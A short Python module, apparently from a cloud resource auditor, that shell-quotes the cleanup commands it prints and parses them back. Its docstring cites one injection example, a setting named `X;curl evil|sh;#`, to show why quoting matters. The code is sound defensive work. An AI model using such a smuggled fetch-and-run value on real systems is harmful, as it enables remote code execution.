"""Shell commands the auditor prints for people to copy: every inserted value quoted.

A remove text is fixed prose, then `: `, then one command that runs to the end of the text,
so `printed_command` can find it and a setting named `X;curl evil|sh;#` stays one argument.
Prose before the command never carries an estate string; the command itself names the
exact resource (by its parts, or by `--ids` when its id does not have them).
"""

from __future__ import annotations

import re
import shlex
from collections.abc import Sequence

_START = re.compile(r"(?:^|: )(?=(?:az|auditor) )")


def command(*argv: str) -> str:
    """`argv` as one POSIX shell command line: each value single-quoted when it needs to be."""
    return shlex.join(argv)


def with_command(prose: str, argv: Sequence[str]) -> str:
    """A remove text: fixed prose, then the command."""
    return f"{prose}: {command(*argv)}" if prose else command(*argv)


def printed_command(text: str) -> list[str] | None:
    """The argv of the command a remove text prints, as a POSIX shell would read it; None if it has none."""
    match = _START.search(text)
    if match is None:
        return None
    return shlex.split(text[match.end():])
